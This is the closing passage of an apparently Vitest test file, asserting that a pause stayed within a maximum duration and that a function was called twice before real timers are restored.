      expect(endedAfterMs).toBeLessThanOrEqual(MAX_PAUSE_MS);
      expect(calls).toBe(2);
    } finally {
      vi.useRealTimers();
    }
  });
});
